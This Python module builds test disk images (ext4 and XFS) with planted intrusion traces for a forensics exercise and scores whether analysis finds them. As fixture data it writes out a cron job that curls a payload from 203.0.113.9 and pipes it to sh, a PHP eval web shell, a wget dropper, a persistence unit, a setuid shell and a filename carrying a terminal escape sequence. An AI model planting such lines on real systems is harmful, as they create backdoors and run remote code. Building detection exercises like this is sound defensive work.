# SPDX-License-Identifier: Apache-2.0
"""Disks with planted traces, made on the spot without root.

`mke2fs -d` fills an ext4 partition from a folder, `debugfs` deletes what shall be deleted,
`mkfs.xfs -p` makes an XFS of the same.
"""

from __future__ import annotations

import hashlib
import os
import random
import shutil
import stat
import struct
import subprocess
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from pipeline.gameday.scorecard import Planted, must

_PARTITION = 1 << 20
_DISK_BYTES = 160 << 20
_XFS_BYTES = 320 << 20
_SBIN = "/usr/sbin:/sbin"
_PACKAGE = {"mke2fs": "e2fsprogs", "debugfs": "e2fsprogs", "mkfs.xfs": "xfsprogs"}


@dataclass(frozen=True)
class Trace:
    """A planted trace: where it lies, its content, and whether it is deleted afterwards."""

    name: str
    path: str
    content: bytes
    mode: int = 0o644
    deleted: bool = False


def traces(seed: int) -> list[Trace]:
    """Return the traces of this seed; equal seeds, equal bytes."""
    rng = random.Random(seed)  # noqa: S311 (made up evidence, not a secret)

    def blob(size: int) -> bytes:
        return b"\x7fELF" + rng.randbytes(size)

    key = "ssh-ed25519 AAAAC3Nza" + rng.randbytes(24).hex() + " root@kali\n"
    return [
        Trace("cron job that fetches a payload", "etc/cron.d/.sysupd",
              b"*/7 * * * * root curl -s http://203.0.113.9/u | sh\n"),
        Trace("foreign key of root", "root/.ssh/authorized_keys", key.encode(), 0o600),
        Trace("miner under a kernel thread's name", "var/tmp/.X11/[kworker/2:1]", blob(3 << 20),
              0o755),
        Trace("web shell", "var/www/html/img/.thumb.php",
              b"<?php @eval($_POST['k']); ?>\n"),
        Trace("unit that starts it again", "etc/systemd/system/dbus-broker-update.service",
              b"[Service]\nExecStart=/var/tmp/.X11/[kworker/2:1]\nRestart=always\n"),
        Trace("setuid shell", "usr/lib/.cache/sh", blob(120_000), 0o4755),
        Trace("name that attacks the reader's terminal", "tmp/\x1b[2Jall clear\n.txt", b"hello\n"),
        Trace("deleted dropper (its name remains)", "tmp/dropper.sh",
              b"#!/bin/sh\nwget -q http://203.0.113.9/k\n", 0o755, deleted=True),
    ]  # fmt: skip


def plant(tree: Path, planted: list[Trace], seed: int) -> None:
    """Make a folder with traces, and ordinary files around them to look through."""
    for trace in planted:
        path = tree / trace.path
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(trace.content)
        path.chmod(trace.mode)
    (tree / "etc").mkdir(exist_ok=True)
    (tree / "etc/passwd").write_text(
        "root:x:0:0:root:/root:/bin/sh\nwww:x:33:33::/var/www:/bin/sh\n"
    )
    rng = random.Random(seed + 1)  # noqa: S311
    for i in range(400):
        path = tree / f"usr/share/app{i % 20}/file{i:03d}.dat"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(rng.randbytes(rng.randrange(0, 20_000)))
        stamp = 1_750_000_000 + rng.randrange(0, 20 * 86_400)
        os.utime(path, (stamp, stamp))


def find(planted: list[Trace], rows: Iterable[Sequence[object]]) -> list[Planted]:
    """Return where each trace was found.

    Args:
        planted: the traces.
        rows: (item, path, sha256, allocated, name) of every file that analysis found.
    """
    listed = list(rows)
    found = []
    for trace in planted:
        digest = hashlib.sha256(trace.content).hexdigest()
        base = Path(trace.path).name
        where = sorted(
            f"{item}:{path}" for item, path, sha256, allocated, name in listed
            if (sha256 == digest and allocated)
            or (trace.deleted and not allocated and name == base)
        )  # fmt: skip
        found.append(Planted(trace.name, bool(where), ", ".join(where)))
    return found


def ext4_disk(tree: Path, disk: Path, deleted: list[str]) -> None:
    """Make a disk with one ext4 partition of a folder. Raises: StepFailedError."""
    with disk.open("wb") as f:
        f.truncate(_DISK_BYTES)
    sectors = (_DISK_BYTES - _PARTITION) // 512
    with disk.open("r+b") as f:  # an MBR with one Linux partition that starts at 1 MiB
        f.seek(446)
        f.write(struct.pack("<B3sB3sII", 0, b"\0\2\0", 0x83, b"\xff\xff\xff", 2048, sectors))
        f.seek(510)
        f.write(b"\x55\xaa")
    blocks = (_DISK_BYTES - _PARTITION) // 1024
    _run("mke2fs", "-q", "-F", "-t", "ext4", "-E", f"offset={_PARTITION}", "-d", str(tree),
         str(disk), f"{blocks}k")  # fmt: skip
    for path in deleted:
        _run("debugfs", "-w", "-R", f"rm /{path}", f"{disk}?offset={_PARTITION}")


def xfs_disk(tree: Path, disk: Path) -> None:
    """Make an XFS of a folder, by a prototype file: names with blanks cannot stand in one.

    Raises: StepFailedError.
    """
    proto = disk.with_suffix(".proto")

    def lines(folder: Path) -> Iterator[str]:
        for path in sorted(folder.iterdir()):
            if any(c.isspace() or c == "\x1b" for c in path.name):
                continue
            if path.is_dir():
                yield f"{path.name} d--755 0 0"
                yield from lines(path)
                yield "$"
            else:
                mode = stat.S_IMODE(path.stat().st_mode)
                kind = "-u-" if mode & 0o4000 else "---"
                yield f"{path.name} {kind}{mode & 0o777:03o} 0 0 {path}"

    proto.write_text("\n".join(["/boot/xfs", "0 0", "d--755 0 0", *lines(tree), "$", "$"]) + "\n")
    with disk.open("wb") as f:
        f.truncate(_XFS_BYTES)
    _run("mkfs.xfs", "-q", "-f", "-p", str(proto), str(disk))
    proto.unlink()


def tool(name: str) -> str | None:
    """Return the path of a program, or None."""
    return shutil.which(name, path=f"{os.environ.get('PATH', '')}:{_SBIN}")


def _run(name: str, *arguments: str) -> None:
    found = tool(name)
    must(found, f"{name} is not installed (apt install {_PACKAGE.get(name, name)})")
    done = subprocess.run([str(found), *arguments], capture_output=True, text=True, check=False)
    must(done.returncode == 0, f"{name} failed: {done.stderr.strip()[:300]}")
